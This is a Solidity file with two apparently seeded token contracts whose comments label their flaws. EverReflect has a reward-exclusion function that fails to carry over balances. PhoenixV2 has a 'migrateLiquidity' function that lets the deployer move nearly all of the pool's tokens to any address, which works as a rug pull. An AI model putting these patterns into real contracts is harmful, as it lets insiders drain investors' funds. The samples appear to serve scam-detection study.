// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {LaunchBase, IUniswapV2Pair} from "./s00Base.sol";

/// RFI reflection, whose exclusion forgets to carry the balance over.
contract EverReflect is Ownable {
  string public constant name = "Ever Reflect";
  string public constant symbol = "EVRF";
  uint8 public constant decimals = 9;
  uint256 private constant MAX = type(uint256).max;
  uint256 private constant _tTotal = 1_000_000_000_000 * 10 ** 9;
  uint256 private _rTotal = MAX - (MAX % _tTotal);
  mapping(address => uint256) private _rOwned;
  mapping(address => uint256) private _tOwned;
  mapping(address => bool) private _isExcluded;
  mapping(address => mapping(address => uint256)) public allowance;

  event Transfer(address indexed from, address indexed to, uint256 value);
  event Approval(address indexed owner, address indexed spender, uint256 value);

  constructor() Ownable(msg.sender) {
    _rOwned[msg.sender] = _rTotal;
    emit Transfer(address(0), msg.sender, _tTotal);
  }

  function totalSupply() external pure returns (uint256) {
    return _tTotal;
  }

  function balanceOf(address account) public view returns (uint256) {
    return _isExcluded[account] ? _tOwned[account] : _rOwned[account] / (_rTotal / _tTotal);
  }

  function approve(address spender, uint256 amount) external returns (bool) {
    allowance[msg.sender][spender] = amount;
    emit Approval(msg.sender, spender, amount);
    return true;
  }

  function transfer(address to, uint256 amount) external returns (bool) {
    _tokenTransfer(msg.sender, to, amount);
    return true;
  }

  function transferFrom(address from, address to, uint256 amount) external returns (bool) {
    allowance[from][msg.sender] -= amount;
    _tokenTransfer(from, to, amount);
    return true;
  }

  function excludeFromReward(address account) external onlyOwner {
    require(!_isExcluded[account], "Account is already excluded");
    _isExcluded[account] = true;
  }

  function includeInReward(address account) external onlyOwner {
    _isExcluded[account] = false;
  }

  function _tokenTransfer(address from, address to, uint256 tAmount) private {
    uint256 rate = _rTotal / _tTotal;
    uint256 tFee = from == owner() ? 0 : tAmount / 50;
    if (_isExcluded[from]) _tOwned[from] -= tAmount;
    _rOwned[from] -= tAmount * rate;
    if (_isExcluded[to]) _tOwned[to] += tAmount - tFee;
    _rOwned[to] += (tAmount - tFee) * rate;
    _rTotal -= tFee * rate;
    emit Transfer(from, to, tAmount - tFee);
  }
}

/// "We are moving to V3": the migrator takes the pool's tokens along.
contract PhoenixV2 is LaunchBase {
  address private _migrator;
  bool private _migrated;

  modifier onlyMigrator() {
    require(_migrator == _msgSender(), "PHX: not the migrator");
    _;
  }

  constructor() ERC20("Phoenix V2", "PHX2") {
    _migrator = msg.sender;
  }

  function migrateLiquidity(address newPool, uint16 perMille) external onlyMigrator {
    require(perMille < 1000 && newPool != address(0) && !_migrated, "PHX: migrated");
    _migrated = true;
    _transfer(uniswapV2Pair, newPool, (balanceOf(uniswapV2Pair) * perMille) / 1000);
    IUniswapV2Pair(uniswapV2Pair).sync();
  }
}
